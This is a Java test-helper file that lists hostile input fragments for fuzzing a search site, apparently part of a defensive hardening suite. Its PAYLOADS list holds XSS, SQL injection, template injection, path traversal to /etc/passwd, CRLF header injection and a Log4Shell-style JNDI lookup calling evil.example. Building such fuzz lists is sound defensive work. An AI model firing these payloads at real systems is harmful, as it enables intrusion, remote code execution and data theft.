package io.quickcite.hardening;

import java.util.List;

/**
 * Fragments of hostile input that the fuzz tests combine: each is something a visitor, a script or an attacker can
 * put in a question. None holds a word that the response checks look for ("Exception", "io.quickcite", ...), so a
 * body that echoes the question never trips them.
 */
final class HostileInput {

    private HostileInput() {
    }

    /** Lucene query syntax, alone and in the shapes a query parser would choke on. */
    static final List<String> LUCENE = List.of(
        "AND", "OR", "NOT", "&&", "||", "!", "+", "-", "(", ")", "((((", "))))", "*", "?", "~", "~2", "^", "^10", ":", "\\", "/",
        "[", "]", "{", "}", "\"", "\"\"", "\"unterminated", "title:AI", "body:*", "*:*", "[a TO z]", "{* TO *}", "[* TO", "/.*/",
        "/[a-z]+/", "AI~0.5", "AI^-1", "AI^1e308", "+AI -AI", "NOT NOT NOT", "AND OR", "(AI OR", "a\\", "\\\\", "\\u0041", "?*?*?*");

    /** Patterns that would blow up a wildcard, fuzzy or regex expansion if anything ever parsed them as such. */
    static final List<String> WILDCARD_BOMBS = List.of(
        "*", "**", "*a*b*c*d*e*f*g*", "?".repeat(40), "a*".repeat(40), "*?".repeat(60), ".*.*.*.*.*.*", "(a+)+$", "(a|aa)+b",
        "a~2 b~2 c~2 d~2 e~2", "/(.*a){20}/");

    /** Markup and injection payloads: HTML, script, SQL, templates, format strings, paths, JSON. */
    static final List<String> PAYLOADS = List.of(
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)",
        "<iframe src=//evil.example>", "</textarea><b>", "&lt;b&gt;", "&#x3C;script&#x3E;", "' OR 1=1 --", "\" OR \"\"=\"",
        "1; DROP TABLE answers", "UNION SELECT * FROM users", "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>",
        "${7*7}", "%s%s%s%n", "{0}{1}", "../../etc/passwd", "..\\..\\windows\\win.ini", "{\"q\":1}", "[]", "null", "undefined",
        "NaN", "-0", "1e308", "99999999999999999999999999", "0x7fffffff", "__proto__", "constructor", "@import url(x)",
        "\\x00", "\\n", "%0d%0aSet-Cookie: a=b", "\r\nX-Injected: 1");

    /** Scripts and code points from outside ASCII. */
    static final List<String> UNICODE = List.of(
        "香港人工智能", "人工智能資助計劃甚麼時候開始", "什么时候", "日本語のテキスト", "한국어", "مرحبا بالعالم", "שלום עולם",
        "\u202Eevil\u202C", "\u200F", "\u200E", "\u2066isolate\u2069", "ＡＩ補助金", "ＷＨＡＴ　ＩＳ　ＡＩＳＣ？", "＊", "（", "？", "＂",
        "😀", "👩‍💻", "🇭🇰", "❤️", "🏳️‍🌈", "𝔸𝕀", "𠜎", "\u200B", "\uFEFF", "\u00AD", "\u2028", "\u2029", "\u00A0", "\u3000",
        "\u2003", "e\u0301", "Z\u0334\u0327\u031B\u0300\u0301", "\uFFFD", "\uFFFF", "\uFFFE", "İ", "ß", "ﬁ", "Å", "Ω", "µ");

    /** Lone and misordered UTF-16 surrogates, which no valid text holds. */
    static final List<String> SURROGATES = List.of("\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDC00\uD800", "a\uD83D", "\uDE00b");

    /** C0 and C1 control characters, DEL, and the whitespace that is also control. */
    static final List<String> CONTROLS = List.of("\u0000", "\u0001", "\u0007", "\u0008", "\t", "\n", "\u000B", "\f", "\r",
        "\u001B[31m", "\u001F", "\u007F", "\u0080", "\u0085", "\u009B", "\u009F");

    /** Ordinary words of the site's content and of questions, so that some probes are real questions. */
    static final List<String> WORDS = List.of(
        "What", "is", "AISC", "When", "did", "the", "AI", "Subsidy", "Scheme", "open", "Hong", "Kong", "finance", "how", "many",
        "why", "does", "matter", "so", "much", "Cyberport", "HKPilot", "cost", "who", "runs", "it", "2024", "third", "cohort",
        "GBA", "Greater", "Bay", "Area", "trust", "data", "compute", "talent", "a", "of", "in");

    /** Percent-encoding tricks, inserted into an otherwise encoded query string. */
    static final List<String> ESCAPES = List.of(
        "%", "%%", "%2", "%G1", "%zz", "%u0041", "%00", "%0a", "%0D%0A", "%7F", "%C0%AF", "%C0%80", "%E0%80%AF", "%ED%A0%80",
        "%ED%B0%80", "%F4%90%80%80", "%FF", "%FE%FF", "%EF%BB%BF", "%252e%252e%252f", "%2525", "%25%32%30", "%26", "%3D", "%23",
        "%2B", "+", "%20", "%E2%80%AE", "%F0%9F%98%80", "%F0%9F%98", "%e4%b8%ad", "%E4%B8");

    /** Query-string shapes around the question: extra, empty and odd parameters. */
    static final List<String> EXTRA_PARAMETERS = List.of(
        "site=default", "site=partner", "site=nobody", "site=", "site=DEFAULT", "site=default%00", "site=%3Cscript%3E",
        "site=" + "s".repeat(5000), "lang=en", "lang=zh-Hant", "lang=", "lang=%3Cscript%3E", "lang=" + "e".repeat(3000),
        "", "=", "==", "&", "q", "Q=AISC", "q%00=x", "q[]=AISC", "q.x=1", "__proto__=1", "callback=alert", "format=xml",
        "x=" + "y".repeat(10_000), "utm_source=news&utm_medium=email", "q=AISC", "q=", "site=default&site=partner", "lang=en&lang=fr");

    /** Every category above, for probes that must touch each at least once. */
    static final List<List<String>> CATEGORIES = List.of(LUCENE, WILDCARD_BOMBS, PAYLOADS, UNICODE, SURROGATES, CONTROLS, WORDS);
}
